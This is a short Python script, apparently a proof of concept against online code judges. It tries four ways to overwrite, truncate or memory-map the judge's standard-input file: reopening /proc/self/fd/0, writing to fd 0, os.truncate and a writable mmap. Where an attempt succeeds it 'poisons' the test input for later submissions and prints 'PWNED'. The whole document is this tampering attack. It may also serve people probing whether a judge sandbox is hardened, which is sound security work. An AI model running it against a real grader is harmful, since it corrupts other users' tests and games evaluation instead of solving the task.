# Where a judge gives the input file itself, this changes the test for everyone after.
import mmap, os
def reopen(): os.write(os.open("/proc/self/fd/0", os.O_RDWR), b"poison")
def write(): os.write(0, b"poison")
def truncate(): os.truncate("/proc/self/fd/0", 0)
def map(): mmap.mmap(0, 5, prot=mmap.PROT_WRITE)[0:5] = b"poiso"
for attempt in (reopen, write, truncate, map):
    try:
        attempt()
        print("PWNED", attempt.__name__)
    except (OSError, ValueError) as error:
        print(error)
